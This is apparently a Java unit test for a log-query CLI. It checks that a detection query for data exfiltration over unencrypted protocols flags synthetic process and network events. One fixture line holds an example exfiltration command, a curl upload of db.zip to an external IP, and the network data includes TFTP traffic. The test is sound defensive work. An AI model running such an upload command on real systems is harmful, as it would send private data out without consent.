package io.egress.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import io.egress.data.SharedData;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The seed detection, corrected the way the parse diagnostics suggest (each bare {@code (["..."])} list
 * written as {@code dynamic([...])}), runs end to end through {@code egress query} over JSON-lines exports.
 * Skipped when shared/seed is absent (the engine's golden test holds our own corrected copy).
 */
class SeedQueryTest {
    @TempDir
    Path dir;

    @Test
    void correctedSeedRunsOverExports() throws IOException {
        Optional<Path> seed = SharedData.resolve("seed/t1048_003.kql");
        assumeTrue(seed.isPresent(), "shared seed absent");
        String corrected = Files.readString(seed.get(), StandardCharsets.UTF_8)
                .replaceAll("(?<!dynamic)\\(\\[(\"[^\\]]*\")\\]\\)", "(dynamic([$1]))");
        Path query = dir.resolve("seed.kql");
        Files.writeString(query, corrected);
        CliRun parsed = CliRun.of("parse", query.toString());
        assertThat(parsed.exitCode()).as(parsed.out()).isZero();

        Path processes = dir.resolve("processes.jsonl");
        Files.writeString(processes, String.join("\n",
                "{\"Timestamp\":\"2024-05-01T11:00:00Z\",\"DeviceName\":\"WS1\",\"AccountName\":\"alice\",\"FileName\":\"curl.exe\","
                        + "\"ProcessCommandLine\":\"curl.exe --data-binary @db.zip http://203.0.113.7/u\"}",
                "{\"Timestamp\":\"2024-05-01T10:00:00Z\",\"DeviceName\":\"WS1\",\"AccountName\":\"alice\",\"FileName\":\"curl.exe\","
                        + "\"ProcessCommandLine\":\"curl.exe --databases http://203.0.113.7/u\"}",
                "{\"Timestamp\":\"2024-04-29T10:00:00Z\",\"DeviceName\":\"WS2\",\"AccountName\":\"bob\",\"FileName\":\"ftp.exe\","
                        + "\"ProcessCommandLine\":\"ftp -s:old.txt\"}") + "\n");
        Path network = dir.resolve("network.csv");
        Files.writeString(network, "Timestamp,DeviceName,InitiatingProcessFileName,RemoteIP,RemotePort,RemoteIPType\n"
                + "2024-05-01T11:30:00Z,WS3,tftp.exe,203.0.113.69,69,Public\n"
                + "2024-05-01T11:40:00Z,WS3,chrome.exe,203.0.113.80,80,Public\n");
        CliRun r = CliRun.of("query", "-f", query.toString(), "--now", "2024-05-01T12:00:00Z", "-o", "csv",
                "--table", "DeviceProcessEvents=" + processes, "--table", "DeviceNetworkEvents=" + network);
        assertThat(r.exitCode()).as(r.err()).isZero();
        assertThat(r.out().split("\r\n")).containsExactly(
                "Timestamp,DeviceName,AccountName,FileName,ProcessCommandLine,InitiatingProcessFileName,"
                        + "InitiatingProcessCommandLine,ExfilMethod,InitiatingProcessAccountName,RemoteIP,RemotePort,RemoteUrl",
                "2024-05-01T11:30:00Z,WS3,,,,tftp.exe,,TFTP,,203.0.113.69,69,",
                "2024-05-01T11:00:00Z,WS1,alice,curl.exe,curl.exe --data-binary @db.zip http://203.0.113.7/u,,,HTTP_Upload,,,,");
    }
}
